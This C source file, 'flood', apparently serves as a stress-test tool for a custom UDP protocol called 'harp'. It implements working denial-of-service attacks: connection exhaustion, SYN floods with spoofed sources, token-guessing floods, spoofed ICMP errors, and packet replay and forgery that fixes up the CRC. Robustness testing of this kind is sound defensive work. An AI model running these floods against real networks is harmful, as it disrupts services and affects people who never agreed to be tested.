/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that need a fast sender; each goes on for SECONDS and prints JSON with what it did. PPS is packets
 * a second, 0: as many as it can.
 *
 * - `flood connects SECONDS HELD ADDRESS SOURCES PORT...`: TCP connections that say nothing, or one byte. Up
 *   to HELD are open at once, or as many as the process may have files; then the oldest is reset. SOURCES are
 *   addresses of this host, with commas between.
 * - `flood syn SECONDS ADDRESS NETWORK PORT...`: connections of which only the first packet comes, from the
 *   addresses NETWORK.100 to .249, where nobody is.
 * - `flood guess SECONDS PPS ADDRESS ENGINE PORT...`: packets that are right but for token and CRC. ENGINE is
 *   the upper half of the token, in hex; 0: it is guessed, too.
 * - `flood icmp SECONDS PPS VICTIM PEER PORT...`: errors of packets from VICTIM to PEER, between all pairs of
 *   these ports: unreachable, and too large.
 * - `flood replay SECONDS PPS INTERFACE`: what passes on an interface towards the host behind it, recorded
 *   and sent there again and again.
 * - `flood forge SECONDS PPS INTERFACE`: likewise, with later numbers, another byte changed and a right CRC.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wire/packet.h"

enum {
  BATCH = 64,
  PORTS_MAX = 64,
  SOURCES_MAX = 16,
  FRAME_BYTES = 2048,
  FRAMES_MAX = 1024,
  PREFIX_BYTES = 20,
  TOKEN_AT = 8,
  SPARE_FILES = 64,
  CHECK_EVERY = 64, /* connections between looks at the clock */
};

static uint64_t random_state = 88172645463325252ull;
static double end_s;
static uint16_t ports[PORTS_MAX];
static unsigned port_count;

static uint64_t random64(void) {
  random_state ^= random_state << 13;
  random_state ^= random_state >> 7;
  return random_state ^= random_state << 17;
}

static double now_s(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int must(int value, const char *what) {
  if (value < 0) {
    perror(what);
    exit(1);
  }
  return value;
}

static struct in_addr address_of(const char *text) {
  struct in_addr a;
  if (inet_pton(AF_INET, text, &a) != 1) {
    fprintf(stderr, "flood: %s is no address\n", text);
    exit(2);
  }
  return a;
}

static void read_ports(char **words) {
  for (; *words && port_count < PORTS_MAX; words++) ports[port_count++] = (uint16_t)atoi(*words);
  if (!port_count) exit(2);
}

/* Waits until so many may have been sent since the start. */
static void pace(double begun_s, uint64_t sent, double pps) {
  while (pps > 0 && (double)sent > (now_s() - begun_s) * pps && now_s() < end_s) {
    struct timespec nap = {.tv_nsec = 100000};
    nanosleep(&nap, NULL);
  }
}

/* ---- connections ---- */

static int begin_connect(struct in_addr to, uint16_t port, struct in_addr from) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), one = 1;
  struct linger reset = {.l_onoff = 1};
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr = from};
  if (fd < 0) return -1;
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset); /* leaves no port in TIME_WAIT */
  setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
  must(bind(fd, (struct sockaddr *)&at, sizeof at), "bind");
  at.sin_addr = to;
  at.sin_port = htons(port);
  if (!connect(fd, (struct sockaddr *)&at, sizeof at) || errno == EINPROGRESS) return fd;
  close(fd);
  return -1;
}

static void connects(char **words) {
  unsigned held = (unsigned)atoi(words[0]), source_count = 0, open_count = 0, most = 0;
  struct in_addr to = address_of(words[1]), sources[SOURCES_MAX];
  for (char *s = strtok(words[2], ","); s && source_count < SOURCES_MAX; s = strtok(NULL, ","))
    sources[source_count++] = address_of(s);
  read_ports(words + 3);
  struct rlimit files;
  must(getrlimit(RLIMIT_NOFILE, &files), "getrlimit");
  if (held > files.rlim_max - SPARE_FILES) held = (unsigned)files.rlim_max - SPARE_FILES;
  files.rlim_cur = files.rlim_max;
  must(setrlimit(RLIMIT_NOFILE, &files), "setrlimit");
  int *fds = calloc(held, sizeof *fds);
  uint64_t begun = 0, failed = 0;
  if (!fds) exit(1);
  memset(fds, -1, held * sizeof *fds);
  for (unsigned at = 0; begun % CHECK_EVERY || now_s() < end_s; at = (at + 1) % held, begun++) {
    if (fds[at] >= 0) {
      (void)!send(fds[at], "H", begun % 2, MSG_NOSIGNAL | MSG_DONTWAIT);
      close(fds[at]);
      open_count--;
    }
    fds[at] = begin_connect(to, ports[begun % port_count], sources[begun % source_count]);
    failed += fds[at] < 0;
    open_count += fds[at] >= 0;
    if (open_count > most) most = open_count;
  }
  printf("{\"begun\": %llu, \"failed\": %llu, \"held\": %u}\n", (unsigned long long)begun,
         (unsigned long long)failed, most);
}

/* ---- raw packets ---- */

static uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static uint32_t add_up(uint32_t sum, const void *data, size_t bytes) {
  const uint8_t *p = data;
  for (size_t i = 0; i + 1 < bytes; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  return bytes % 2 ? sum + (uint32_t)(p[bytes - 1] << 8) : sum;
}

static struct iphdr ip_head(struct in_addr from, struct in_addr to, uint8_t protocol, uint16_t bytes) {
  return (struct iphdr){.version = 4,
                        .ihl = 5,
                        .tot_len = htons(bytes),
                        .ttl = 64,
                        .protocol = protocol,
                        .saddr = from.s_addr,
                        .daddr = to.s_addr};
}

static int raw_socket(void) {
  return must(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");
}

static void syn(char **words) {
  struct in_addr to = address_of(words[0]);
  char text[64];
  struct {
    struct iphdr ip;
    struct tcphdr tcp;
  } p;
  read_ports(words + 2);
  int fd = raw_socket();
  uint64_t sent = 0;
  for (; sent % CHECK_EVERY || now_s() < end_s; sent++) {
    snprintf(text, sizeof text, "%s.%u", words[1], 100 + (unsigned)(random64() % 150));
    p.ip = ip_head(address_of(text), to, IPPROTO_TCP, sizeof p);
    p.tcp = (struct tcphdr){.source = htons((uint16_t)(1024 + random64() % 60000)),
                            .dest = htons(ports[sent % port_count]),
                            .seq = (uint32_t)random64(),
                            .doff = 5,
                            .syn = 1,
                            .window = htons(65535)};
    uint32_t sum = add_up(IPPROTO_TCP + sizeof p.tcp, &p.ip.saddr, 8);
    p.tcp.check = htons(fold(add_up(sum, &p.tcp, sizeof p.tcp)));
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr = to};
    (void)!sendto(fd, &p, sizeof p, 0, (struct sockaddr *)&at, sizeof at);
  }
  printf("{\"sent\": %llu}\n", (unsigned long long)sent);
}

static void guess(char **words) {
  double pps = atof(words[0]), begun_s = now_s();
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = address_of(words[1])};
  uint64_t engine = strtoull(words[2], NULL, 16), sent = 0;
  static uint8_t wire[BATCH][HARP_DATA_HEADER_BYTES];
  struct mmsghdr m[BATCH];
  struct iovec iov[BATCH];
  int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket"), one = 1;
  read_ports(words + 3);
  setsockopt(fd, SOL_SOCKET, SO_NO_CHECK, &one, sizeof one);
  while (now_s() < end_s) {
    for (unsigned i = 0; i < BATCH; i++) {
      uint32_t upper = htonl(engine ? (uint32_t)engine : (uint32_t)random64());
      uint64_t words_of[] = {random64(), random64(), random64()}; /* CRC, token and number */
      memcpy(wire[i], words_of, PREFIX_BYTES);
      wire[i][4] = HARP_WIRE_VERSION;
      wire[i][5] = HARP_PACKET_PROBE;
      wire[i][6] = wire[i][7] = 0;
      memcpy(wire[i] + TOKEN_AT, &upper, sizeof upper);
      iov[i] = (struct iovec){wire[i], sizeof wire[i]};
      m[i].msg_hdr =
          (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov[i], .msg_iovlen = 1};
    }
    to.sin_port = htons(ports[sent / BATCH % port_count]);
    int n = sendmmsg(fd, m, BATCH, 0);
    sent += n > 0 ? (uint64_t)n : 0;
    pace(begun_s, sent, pps);
  }
  printf("{\"sent\": %llu}\n", (unsigned long long)sent);
}

static void icmp(char **words) {
  double pps = atof(words[0]), begun_s = now_s();
  struct in_addr victim = address_of(words[1]), peer = address_of(words[2]);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr = victim};
  int fd = must(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), "socket");
  struct {
    struct icmphdr icmp;
    struct iphdr ip;
    struct udphdr udp;
  } p;
  uint64_t sent = 0;
  read_ports(words + 3);
  for (; sent % CHECK_EVERY || now_s() < end_s; sent++) {
    uint64_t pair = sent / 2 % ((uint64_t)port_count * port_count);
    p.icmp = (struct icmphdr){.type = ICMP_DEST_UNREACH,
                              .code = sent % 2 ? ICMP_PORT_UNREACH : ICMP_FRAG_NEEDED,
                              .un.frag.mtu = sent % 2 ? 0 : htons(600)};
    p.ip = ip_head(victim, peer, IPPROTO_UDP, sizeof p.ip + sizeof p.udp + HARP_DATA_HEADER_BYTES);
    p.ip.frag_off = htons(IP_DF);
    p.ip.check = htons(fold(add_up(0, &p.ip, sizeof p.ip)));
    p.udp = (struct udphdr){.source = htons(ports[pair / port_count]),
                            .dest = htons(ports[pair % port_count]),
                            .len = htons(sizeof p.udp + HARP_DATA_HEADER_BYTES)};
    p.icmp.checksum = htons(fold(add_up(0, &p, sizeof p)));
    (void)!sendto(fd, &p, sizeof p, 0, (struct sockaddr *)&at, sizeof at);
    if (sent % CHECK_EVERY == 0) pace(begun_s, sent, pps);
  }
  printf("{\"sent\": %llu}\n", (unsigned long long)sent);
}

/* ---- on the path ---- */

static uint32_t crc_table[256];

static void make_crc_table(void) {
  for (uint32_t i = 0; i < 256; i++) {
    crc_table[i] = i;
    for (int bit = 0; bit < 8; bit++)
      crc_table[i] = crc_table[i] >> 1 ^ (crc_table[i] & 1 ? 0x82f63b78u : 0); /* CRC32C */
  }
}

static uint32_t crc_of(const uint8_t *p, size_t bytes) {
  uint32_t crc = 0;
  for (; bytes--; p++) crc = crc >> 8 ^ crc_table[(crc ^ *p) & 0xff];
  return crc;
}

/* Returns how many bytes of a packet its CRC covers, with those before; 0: it is none. */
static size_t covered_bytes(const uint8_t *wire, size_t bytes) {
  struct harp_wire_data data;
  struct harp_wire_ack ack;
  size_t end;
  if (bytes < sizeof data) return 0;
  memcpy(&data, wire, sizeof data);
  memcpy(&ack, wire, sizeof ack);
  if (data.prefix.type == HARP_PACKET_ACK)
    end = sizeof ack + ack.range_count * (size_t)HARP_ACK_RANGE_BYTES +
          ack.credit_count * (size_t)HARP_ACK_CREDIT_BYTES;
  else
    end = sizeof data + harp_from_be16(data.length);
  return end <= bytes ? end : 0;
}

/* Gives a packet a number to come, and changes another byte, of a header in every other one. The CRC is
 * linear: who sees a packet can correct that of a changed one without the seed. */
static void forge_packet(uint8_t *wire, size_t bytes) {
  enum { AHEAD_MAX = 64 };
  struct harp_wire_prefix h;
  size_t end = covered_bytes(wire, bytes);
  if (!end) return;
  uint32_t before = crc_of(wire + HARP_CRC_FROM_BYTE, end - HARP_CRC_FROM_BYTE);
  memcpy(&h, wire, sizeof h);
  h.number = harp_to_be32(harp_from_be32(h.number) + 1 + (uint32_t)(random64() % AHEAD_MAX));
  size_t to = random64() % 2 || end < HARP_DATA_HEADER_BYTES ? end : HARP_DATA_HEADER_BYTES;
  memcpy(wire, &h, sizeof h);
  wire[PREFIX_BYTES + random64() % (to - PREFIX_BYTES)] ^= (uint8_t)(1 + random64() % 255);
  uint32_t after = crc_of(wire + HARP_CRC_FROM_BYTE, end - HARP_CRC_FROM_BYTE);
  h.crc = harp_to_be32(harp_from_be32(h.crc) ^ before ^ after);
  memcpy(wire, &h.crc, sizeof h.crc);
}

/* Sends what passed on an interface there again, as it was or forged. */
static void repeat(char **words, bool is_forged) {
  enum { PAYLOAD_AT = ETH_HLEN + sizeof(struct iphdr) + sizeof(struct udphdr) };
  double pps = atof(words[0]), begun_s = now_s();
  static uint8_t frames[FRAMES_MAX][FRAME_BYTES];
  static uint32_t bytes[FRAMES_MAX];
  uint64_t seen = 0, sent = 0;
  int fd = must(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), "socket");
  struct sockaddr_ll at = {.sll_family = AF_PACKET,
                           .sll_protocol = htons(ETH_P_ALL),
                           .sll_ifindex = (int)if_nametoindex(words[1])};
  must(bind(fd, (struct sockaddr *)&at, sizeof at), "bind");
  while (now_s() < end_s) {
    struct sockaddr_ll from;
    socklen_t n = sizeof from;
    unsigned place = (unsigned)(seen % FRAMES_MAX);
    /* The newest of what it records: it goes on while it sends. */
    for (unsigned reads = 0; reads < 8; reads++, n = sizeof from) {
      ssize_t got =
          recvfrom(fd, frames[place], FRAME_BYTES, MSG_DONTWAIT | MSG_TRUNC, (struct sockaddr *)&from, &n);
      if (got < 0) break;
      const struct iphdr *ip = (const struct iphdr *)(frames[place] + ETH_HLEN);
      bool is_udp =
          got > ETH_HLEN + (ssize_t)sizeof *ip && frames[place][12] == 8 && ip->protocol == IPPROTO_UDP;
      if (got > FRAME_BYTES || from.sll_pkttype != PACKET_OUTGOING || !is_udp) continue;
      bytes[place] = (uint32_t)got;
      /* A NIC was to fill in the checksum; UDP may do without. */
      memset(frames[place] + ETH_HLEN + sizeof *ip + offsetof(struct udphdr, check), 0, 2);
      place = (unsigned)(++seen % FRAMES_MAX);
    }
    for (unsigned i = 0; i < 8; i++) {
      unsigned which = (unsigned)(random64() % FRAMES_MAX);
      if (which >= seen || which == place) continue;
      uint8_t frame[FRAME_BYTES];
      memcpy(frame, frames[which], bytes[which]);
      if (is_forged && bytes[which] > PAYLOAD_AT) forge_packet(frame + PAYLOAD_AT, bytes[which] - PAYLOAD_AT);
      sent += send(fd, frame, bytes[which], MSG_DONTWAIT) > 0;
    }
    pace(begun_s, sent, pps);
  }
  printf("{\"seen\": %llu, \"sent\": %llu}\n", (unsigned long long)seen, (unsigned long long)sent);
}

static void replay(char **words) {
  repeat(words, false);
}

static void forge(char **words) {
  make_crc_table();
  repeat(words, true);
}

int main(int argc, char **argv) {
  static const struct {
    const char *name;
    int words;
    void (*run)(char **words);
  } kinds[] = {{"connects", 4, connects}, {"syn", 3, syn},       {"guess", 4, guess},
               {"icmp", 4, icmp},         {"replay", 2, replay}, {"forge", 2, forge}};
  for (unsigned i = 0; argc > 2 && i < sizeof kinds / sizeof kinds[0]; i++) {
    if (strcmp(argv[1], kinds[i].name) || argc < 3 + kinds[i].words) continue;
    end_s = now_s() + atof(argv[2]);
    random_state ^= (uint64_t)getpid() << 32;
    kinds[i].run(argv + 3);
    return 0;
  }
  fprintf(stderr, "flood: see the head of its source\n");
  return 2;
}
